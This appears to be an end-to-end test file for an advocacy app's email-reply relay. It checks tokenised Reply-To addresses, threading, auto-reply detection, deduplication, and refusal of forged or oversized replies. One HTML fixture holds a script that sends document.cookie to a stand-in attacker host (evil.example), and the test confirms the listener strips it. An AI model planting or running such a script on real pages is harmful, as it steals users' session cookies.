import { BounceListener } from '../src/bounces/bounce-listener.js';
import { type TargetJson } from './helpers/api-client.js';
import { createLiveCampaign, foundingTargets, newCampaigner, signAndConfirm, supporter, uniq } from './helpers/fixtures.js';
import type { ReceivedMail } from './helpers/smtp-server.js';
import { sendReply } from './helpers/replies.js';
import { useStack } from './helpers/use-stack.js';

const DOMAIN = 'campaigns.example';
const REPLY_MAX_BYTES = 64 * 1024;

/** The official's mail server (helpers/replies.ts), from Moscow unless told otherwise. */
const sendMail = (port: number, to: string, raw: string, from = 'mailer@mid-ru.example', size?: number) => sendReply(port, to, raw, from, size);

/** The header block of a message as it went on the wire, unfolded. */
const headerBlock = (m: ReceivedMail) => m.raw.split(/\r?\n\r?\n/)[0].replace(/\r?\n[ \t]+/g, ' ');

/**
 * Officials' replies, end to end: letters of a campaign that relays replies go out with
 * Reply-To reply+TOKEN@MAIL_DOMAIN (and no supporter address in any header); real MIME answers
 * to those addresses, fed over SMTP to the inbound listener of a running app, are stored once,
 * threaded to their letter, classified, and refused (550, 552) when they must be.
 */
describe('replies: relayed letters and the answers that come back', () => {
  const { stack, app } = useStack({ app: { BOUNCE_SMTP_PORT: '0', HOST: '127.0.0.1', REPLY_MAX_BYTES: String(REPLY_MAX_BYTES) } });
  let port: number;
  let lavrov: TargetJson;
  let elaraby: TargetJson;
  let relay: { id: string; slug: string };
  /** per supporter of the relay campaign: the letter to each target as received on the wire */
  const letters: { email: string; toLavrov: ReceivedMail; toElaraby: ReceivedMail }[] = [];

  const replyAddressOf = (m: ReceivedMail) => m.parsed.replyTo!.value[0].address!;
  const deliveryIdOf = (m: ReceivedMail) => m.headers['x-appeal-delivery'];
  const repliesTo = (deliveryId: string) => stack.db.query(`SELECT * FROM replies WHERE delivery_id = $1 ORDER BY received_at, id`, [deliveryId]);

  beforeAll(async () => {
    port = app.app.get(BounceListener).port!;
    expect(port).toBeGreaterThan(0);
    const { staff } = await newCampaigner(app);
    const tag = uniq();
    ({ lavrov, elaraby } = await foundingTargets(staff, tag));
    relay = await createLiveCampaign(staff, { targets: [lavrov, elaraby], body: { delivery: { mode: 'individual', replies: 'relay' } } });
    for (let i = 0; i < 2; i++) {
      const s = supporter(i);
      await signAndConfirm(app.api, stack.smtp, relay.slug, s);
      const mine = (m: ReceivedMail) => m.headers['x-appeal-campaign'] === relay.slug && m.text.includes(`${s.firstName} ${s.lastName}`);
      const [toLavrov] = await stack.smtp.waitFor((m) => mine(m) && m.rcptTo.includes(lavrov.email));
      const [toElaraby] = await stack.smtp.waitFor((m) => mine(m) && m.rcptTo.includes(elaraby.email));
      letters.push({ email: s.email, toLavrov, toElaraby });
    }
  });

  describe('the letters on the wire', () => {
    it('a relayed letter says Reply-To reply+TOKEN@MAIL_DOMAIN, and no header nor the envelope holds the supporter’s address', () => {
      for (const { email, toLavrov, toElaraby } of letters) {
        for (const m of [toLavrov, toElaraby]) {
          expect(replyAddressOf(m)).toMatch(new RegExp(`^reply\\+[0-9a-z]{52}@${DOMAIN.replace('.', '\\.')}$`));
          expect(m.parsed.from!.value[0].address).toBe('appeals@campaigns.example');
          const headers = headerBlock(m).toLowerCase();
          expect(headers).not.toContain(email.toLowerCase());
          expect(headers).not.toContain(email.split('@')[0].toLowerCase());
          expect(m.mailFrom).toBe(`bounces+${deliveryIdOf(m)}@${DOMAIN}`);
          // nor the body: the campaign does not show it
          expect(m.text).not.toContain(email);
          expect(m.html).not.toContain(email);
        }
        // one address per letter
        expect(replyAddressOf(toLavrov)).not.toBe(replyAddressOf(toElaraby));
      }
    });

    it('a campaign that keeps the supporter mode (the default) still says Reply-To the supporter', async () => {
      const { staff } = await newCampaigner(app);
      const plain = await createLiveCampaign(staff, { targets: [lavrov] });
      const s = supporter(7);
      await signAndConfirm(app.api, stack.smtp, plain.slug, s);
      const [m] = await stack.smtp.waitFor((x) => x.headers['x-appeal-campaign'] === plain.slug && x.rcptTo.includes(lavrov.email));
      expect(replyAddressOf(m)).toBe(s.email);
      expect(headerBlock(m)).not.toMatch(/reply\+/i);
    });

    it('a relayed campaign that shows the supporter’s address puts it under the signature, and still in no header', async () => {
      const { staff } = await newCampaigner(app);
      const shown = await createLiveCampaign(staff, {
        targets: [lavrov],
        body: { delivery: { mode: 'individual', replies: 'relay', showSupporterEmail: true } },
      });
      const s = supporter(8);
      await signAndConfirm(app.api, stack.smtp, shown.slug, s);
      const [m] = await stack.smtp.waitFor((x) => x.headers['x-appeal-campaign'] === shown.slug && x.rcptTo.includes(lavrov.email));
      expect(m.text.trimEnd().endsWith(`${s.firstName} ${s.lastName}, Lebanon\n${s.email}`)).toBe(true);
      expect(replyAddressOf(m)).toMatch(/^reply\+/);
      expect(headerBlock(m).toLowerCase()).not.toContain(s.email.toLowerCase());
    });
  });

  describe('answers fed to the listener over SMTP', () => {
    it('a plain reply quoting the letter is stored, threaded to its letter, target and signature, unclassified; its attachment described, not kept', async () => {
      const letter = letters[0].toLavrov;
      const raw = `From: "Sergei Lavrov" <${lavrov.email}>
To: ${replyAddressOf(letter)}
Subject: Re: ${letter.subject}
Date: Thu, 09 Feb 2012 10:12:00 +0000
Message-ID: <plain-1.${uniq()}@mid-ru.example>
In-Reply-To: ${letter.headers['message-id']}
References: ${letter.headers['message-id']}
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b1"

--b1
Content-Type: text/plain; charset=utf-8

Thank you for your letter. The Minister has raised the situation in Homs with Damascus.

On Wed, 8 Feb 2012, Amal0 Haddad via Test Org wrote:
> Dear Minister of Foreign Affairs Sergei Lavrov,
> I urge Russian Federation to make clear ...
--b1
Content-Type: application/pdf; name="statement.pdf"
Content-Disposition: attachment; filename="statement.pdf"
Content-Transfer-Encoding: base64

JVBERi0xLjQKJcfsj6IKU0VDUkVULUNPTlRFTlQ=
--b1--
`;
      expect(await sendMail(port, replyAddressOf(letter), raw, lavrov.email)).toMatch(/^250 /);
      const [r] = await repliesTo(deliveryIdOf(letter));
      const [d] = await stack.db.query(`SELECT campaign_id, target_id, signature_id FROM deliveries WHERE id = $1`, [deliveryIdOf(letter)]);
      expect(r).toMatchObject({
        campaign_id: relay.id,
        target_id: lavrov.id,
        signature_id: d.signature_id,
        from_address: lavrov.email,
        from_name: 'Sergei Lavrov',
        subject: `Re: ${letter.subject}`,
        sent_at: new Date('2012-02-09T10:12:00Z'),
        kind: 'unclassified',
        auto_reason: null,
        stance: null,
        published: false,
        attachments: [{ filename: 'statement.pdf', contentType: 'application/pdf', size: 29 }],
      });
      expect(d.signature_id).toEqual(expect.any(String));
      expect(r.text).toContain('The Minister has raised the situation in Homs with Damascus.');
      expect(r.text).toContain('> Dear Minister of Foreign Affairs Sergei Lavrov,');
      expect(r.headers['in-reply-to']).toBe(letter.headers['message-id']);
      // the attachment's content is nowhere
      expect(JSON.stringify(r)).not.toMatch(/SECRET-CONTENT|JVBERi0/);
    });

    it('an HTML reply is kept as text, without its script or tracking image', async () => {
      const letter = letters[1].toLavrov;
      const raw = `From: ${lavrov.email}
To: ${replyAddressOf(letter)}
Subject: Re: ${letter.subject}
Message-ID: <html-1.${uniq()}@mid-ru.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><style>body { color: red }</style><script>alert('head')</script></head><body>
<p>Dear supporter,</p><p>The Minister <b>shares</b> your concern. <a href="https://track.example/click?u=42">Our statement</a></p>
<script type="text/javascript">fetch('https://evil.example/?c=' + document.cookie)</script>
<img src="https://track.example/open.gif?u=42" width="1" height="1" alt="">
<p>Press Office</p></body></html>
`;
      expect(await sendMail(port, replyAddressOf(letter), raw, lavrov.email)).toMatch(/^250 /);
      const [r] = await repliesTo(deliveryIdOf(letter));
      expect(r.text).toBe('Dear supporter,\n\nThe Minister shares your concern. Our statement\n\nPress Office');
      expect(r.text).not.toMatch(/<|script|alert|fetch|evil\.example|track\.example|open\.gif|color/);
      expect(r.kind).toBe('unclassified');
    });

    it('an out-of-office with Auto-Submitted: auto-replied is auto', async () => {
      const letter = letters[0].toElaraby;
      const raw = `From: ${elaraby.email}
To: ${replyAddressOf(letter)}
Subject: Away until 20 February
Auto-Submitted: auto-replied
Message-ID: <oof-1.${uniq()}@arab-league.example>
Content-Type: text/plain; charset=utf-8

I am away from the office until 20 February.
`;
      expect(await sendMail(port, replyAddressOf(letter), raw, elaraby.email)).toMatch(/^250 /);
      const [r] = await repliesTo(deliveryIdOf(letter));
      expect(r).toMatchObject({ kind: 'auto', auto_reason: 'Auto-Submitted: auto-replied', target_id: elaraby.id });
    });

    it('a Russian "Автоответ" (an encoded subject, no header to say so) is auto', async () => {
      const letter = letters[1].toElaraby;
      const subject = `=?UTF-8?B?${Buffer.from('Автоответ: Используйте своё влияние').toString('base64')}?=`;
      const raw = `From: ${elaraby.email}
To: ${replyAddressOf(letter)}
Subject: ${subject}
Message-ID: <ru-auto.${uniq()}@arab-league.example>
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Я в отпуске до 20 февраля.
`;
      expect(await sendMail(port, replyAddressOf(letter), raw, elaraby.email)).toMatch(/^250 /);
      const [r] = await repliesTo(deliveryIdOf(letter));
      expect(r).toMatchObject({ kind: 'auto', subject: 'Автоответ: Используйте своё влияние', auto_reason: 'subject (ru): автоответ' });
      expect(r.text).toBe('Я в отпуске до 20 февраля.');
    });

    it('a reply from an assistant’s address (not the target’s) is threaded by the token to its letter and target', async () => {
      const letter = letters[1].toElaraby;
      const assistant = `assistant.${uniq()}@staff.arab-league.example`;
      const raw = `From: "Office of the Secretary-General" <${assistant}>
To: ${replyAddressOf(letter)}
Subject: Your letter to the Secretary-General
Message-ID: <assistant-1.${uniq()}@staff.arab-league.example>
Content-Type: text/plain; charset=utf-8

The Secretary-General has received your letter and will answer it.
`;
      expect(await sendMail(port, replyAddressOf(letter), raw, assistant)).toMatch(/^250 /);
      const rows = await repliesTo(deliveryIdOf(letter));
      const r = rows.find((x: { from_address: string }) => x.from_address === assistant);
      const [d] = await stack.db.query(`SELECT campaign_id, target_id, signature_id FROM deliveries WHERE id = $1`, [deliveryIdOf(letter)]);
      expect(r).toMatchObject({
        campaign_id: relay.id,
        target_id: elaraby.id,
        signature_id: d.signature_id,
        delivery_id: deliveryIdOf(letter),
        kind: 'unclassified',
      });
      expect(r.from_name).toBe('Office of the Secretary-General');
    });

    it('the same reply delivered twice is stored once: by its Message-ID, or without one by sender, date and text', async () => {
      const letter = letters[0].toLavrov;
      const before = (await repliesTo(deliveryIdOf(letter))).length;
      const withId = `From: ${lavrov.email}
To: ${replyAddressOf(letter)}
Subject: Re: again
Message-ID: <twice.${uniq()}@mid-ru.example>
Content-Type: text/plain; charset=utf-8

Once is enough.
`;
      expect(await sendMail(port, replyAddressOf(letter), withId, lavrov.email)).toMatch(/^250 /);
      expect(await sendMail(port, replyAddressOf(letter), withId, lavrov.email)).toMatch(/^250 /);
      // a mail system that lower-cases the local part names the same letter
      expect(await sendMail(port, replyAddressOf(letter).toUpperCase().replace(DOMAIN.toUpperCase(), DOMAIN), withId, lavrov.email)).toMatch(/^250 /);
      expect((await repliesTo(deliveryIdOf(letter))).length).toBe(before + 1);

      const withoutId = `From: ${lavrov.email}
To: ${replyAddressOf(letter)}
Subject: Re: no id
Date: Fri, 10 Feb 2012 08:00:00 +0000
Content-Type: text/plain; charset=utf-8

No Message-ID here.
`;
      expect(await sendMail(port, replyAddressOf(letter), withoutId, lavrov.email)).toMatch(/^250 /);
      expect(await sendMail(port, replyAddressOf(letter), withoutId, lavrov.email)).toMatch(/^250 /);
      const rows = await repliesTo(deliveryIdOf(letter));
      expect(rows.length).toBe(before + 2);
      expect(rows.filter((x: { subject: string }) => x.subject === 'Re: no id')).toEqual([
        expect.objectContaining({ dedup_key: expect.stringMatching(/^sha256:/) }),
      ]);
    });

    it('a forged or tampered token, or a bare reply@, is refused at RCPT with 550, and nothing is stored', async () => {
      const before = await stack.db.query(`SELECT count(*)::int AS n FROM replies`);
      const good = replyAddressOf(letters[0].toLavrov);
      const token = good.slice('reply+'.length, good.indexOf('@'));
      const tampered = `reply+${token.slice(0, -1)}${token.endsWith('a') ? 'b' : 'a'}@${DOMAIN}`;
      // the id of another real letter, with this letter's MAC
      const otherId = deliveryIdOf(letters[1].toLavrov).replace(/-/g, '');
      const borrowed = `reply+${otherId}${token.slice(32)}@${DOMAIN}`;
      const madeUp = `reply+${'0'.repeat(32)}${'a'.repeat(20)}@${DOMAIN}`;
      for (const to of [tampered, borrowed, madeUp, `reply@${DOMAIN}`, `reply+nonsense@${DOMAIN}`]) {
        await expect(sendMail(port, to, `From: x@y.example\nSubject: hi\n\nhi\n`)).rejects.toMatchObject({
          responseCode: 550,
          response: expect.stringMatching(/^550 5\.1\.1 .*no such reply address$/),
        });
      }
      expect(await stack.db.query(`SELECT count(*)::int AS n FROM replies`)).toEqual(before);
    });

    it('a reply over REPLY_MAX_BYTES is refused with 552, and nothing is stored', async () => {
      const letter = letters[0].toElaraby;
      const before = (await repliesTo(deliveryIdOf(letter))).length;
      const big = `From: ${elaraby.email}
To: ${replyAddressOf(letter)}
Subject: Re: a very long answer
Message-ID: <big.${uniq()}@arab-league.example>
Content-Type: text/plain; charset=utf-8

${'All work and no play makes a very long answer.\n'.repeat(Math.ceil((REPLY_MAX_BYTES * 1.5) / 48))}`;
      const tooBig = { responseCode: 552, response: expect.stringMatching(new RegExp(`^552 5\\.3\\.4 a reply is at most ${REPLY_MAX_BYTES} bytes$`)) };
      // found too big at the end of DATA
      await expect(sendMail(port, replyAddressOf(letter), big, elaraby.email)).rejects.toMatchObject(tooBig);
      // refused at RCPT when the sender declares a size over the limit (MAIL FROM … SIZE=), before a byte is sent:
      // here a short message declared big, so that only the declaration can refuse it
      const small = big.split('\n\n')[0].replace('<big.', '<small.') + '\n\nShort, after all.\n';
      await expect(sendMail(port, replyAddressOf(letter), small, elaraby.email, REPLY_MAX_BYTES + 1)).rejects.toMatchObject(tooBig);
      expect((await repliesTo(deliveryIdOf(letter))).length).toBe(before);
      // the listener carries on: a reply within the limit still comes in
      expect(await sendMail(port, replyAddressOf(letter), small, elaraby.email)).toMatch(/^250 /);
      expect((await repliesTo(deliveryIdOf(letter))).length).toBe(before + 1);
    });

    it('bounces still go to the bounce processor on the same listener', async () => {
      await expect(sendMail(port, `postmaster@${DOMAIN}`, 'Subject: hello\n\nhi\n')).rejects.toMatchObject({ responseCode: 550 });
      expect(await sendMail(port, `bounces+${deliveryIdOf(letters[0].toLavrov)}@${DOMAIN}`, 'Subject: not a report\n\nhi\n', '')).toMatch(/^250 /);
      const [d] = await stack.db.query(`SELECT status FROM deliveries WHERE id = $1`, [deliveryIdOf(letters[0].toLavrov)]);
      expect(d.status).toBe('sent');
    });
  });
});
